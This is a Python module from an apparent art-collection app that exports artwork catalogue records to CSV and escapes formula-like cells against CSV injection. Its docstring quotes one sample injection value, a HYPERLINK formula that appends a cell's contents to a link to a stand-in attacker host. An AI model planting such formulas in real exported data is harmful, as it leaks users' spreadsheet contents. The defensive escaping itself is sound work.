"""Catalogue records out as CSV, in the columns the importers read, safe to open in a spreadsheet.

A title such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` came in from someone's catalogue; a
spreadsheet opening the export would run it (CSV injection). Every text cell that starts like a formula gets
a leading quote, which spreadsheets show as text and ``import_images`` takes off again, so an exported file
re-imports unchanged.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Protocol

from collections_app.importers.catalogue import spreadsheet_safe
from collections_app.models import Artwork

# Names ``collections_app.importers.catalogue`` maps back onto the same fields.
EXPORT_COLUMNS = (
    "id",
    "title",
    "artists",
    "display_date",
    "begin_year",
    "end_year",
    "medium",
    "classification",
    "collection",
    "dimensions",
    "description",
    "credit_line",
    "licence",
    "accession_number",
    "source_url",
    "iiif_url",
    "image_url",
    "iconclass",
)


class Writable(Protocol):
    def write(self, text: str, /) -> object: ...


def _row(artwork: Artwork) -> list[str | int]:
    texts = {
        "id": artwork.source_id,
        "artists": "; ".join(a.name for a in artwork.artists.all()),
        "iconclass": "; ".join(artwork.iconclass),
    }
    row: list[str | int] = []
    for column in EXPORT_COLUMNS:
        if column in ("begin_year", "end_year"):
            year = artwork.date_begin if column == "begin_year" else artwork.date_end
            row.append("" if year is None else year)  # a number, never a formula
        else:
            row.append(spreadsheet_safe(texts.get(column, getattr(artwork, column, "")) or ""))
    return row


def artworks_csv_write(*, artworks: Iterable[Artwork], stream: Writable) -> int:
    """Write a header and one row per artwork; returns the number of rows. A byte-order mark first, so
    Excel reads the accents as UTF-8 (the importer skips it)."""
    stream.write("\ufeff")
    writer = csv.writer(stream, lineterminator="\r\n")
    writer.writerow(EXPORT_COLUMNS)
    count = 0
    for artwork in artworks:
        writer.writerow(_row(artwork))
        count += 1
    return count
